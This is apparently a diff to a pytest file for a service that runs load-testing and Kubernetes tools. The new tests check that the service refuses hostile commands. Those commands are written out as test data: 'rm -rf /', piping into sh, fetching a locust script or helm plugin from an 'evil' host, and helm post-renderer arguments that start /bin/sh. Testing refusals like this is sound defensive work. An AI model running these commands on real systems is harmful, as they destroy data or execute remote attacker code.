@@ -21,7 +21,7 @@ from interpreter.tester.tasks import Limits
 from tests.interpreter.tester.conftest import Starts, running
 
 Programs = Callable[[str, str], Path]
-SHELL = Allowed(frozenset(), shell=True)
+SHELL = Allowed(frozenset(), frozenset(), shell=True)
 
 
 # --- Flagger's contract (peers: loadtester) -----------------------------------------------------------------------
@@ -111,12 +111,29 @@ async def test_what_cannot_be_done_is_a_bad_request(tester: Starts) -> None:
 # --- what may be run ----------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("cmd", ["rm -rf /", "true && rm x", "echo a | sh", "/bin/true", "eval true"])
+@pytest.mark.parametrize(
+    "cmd",
+    ["rm -rf /", "true && rm x", "echo a | sh", "/bin/true", "eval true", "locust -f http://evil/x.py", "wrk -s x.lua"],
+)
 async def test_what_is_not_allowed_is_not_run(tester: Starts, cmd: str) -> None:
     client = await tester()
     answer = await client.post(type="bash", cmd=cmd)
-    assert (answer.status_code, "may not be run here" in answer.text) == (403, True)
+    assert (answer.status_code, "may not be run in a command line" in answer.text) == (403, True)
     assert (await client.http.get("/tasks")).json() == {"tasks": []}
+
+
+@pytest.mark.parametrize(
+    ("kind", "cmd"),
+    [
+        ("helm", "install x . --post-renderer /bin/sh"),
+        ("helmv3", "install x . --post-renderer=/bin/sh"),
+        ("helm", "plugin install http://evil/"),
+        ("kubectl", "get pods --kubeconfig=/tmp/evil"),
+    ],
+)
+async def test_arguments_that_start_another_program_need_leave(tester: Starts, kind: str, cmd: str) -> None:
+    answer = await (await tester()).post(type=kind, cmd=cmd)
+    assert (answer.status_code, "start another program" in answer.text) == (403, True)
 
 
 async def test_a_shell_runs_what_a_policy_writes_only_where_it_may(tester: Starts) -> None:
@@ -133,7 +150,7 @@ async def test_a_script_of_a_policy_needs_the_same_leave(tester: Starts, program
     script = {"type": "k6", "script": "what it says", "returnCmdOutput": "true"}
     refused = await (await tester()).post(**script)
     assert (refused.status_code, "--allow-shell" in refused.text) == (403, True)
-    answer = await (await tester(allowed=Allowed(frozenset({"k6"}), shell=True))).post(**script)
+    answer = await (await tester(allowed=Allowed(shell=True))).post(**script)
     assert (answer.status_code, answer.text) == (200, "what it says")
 
 
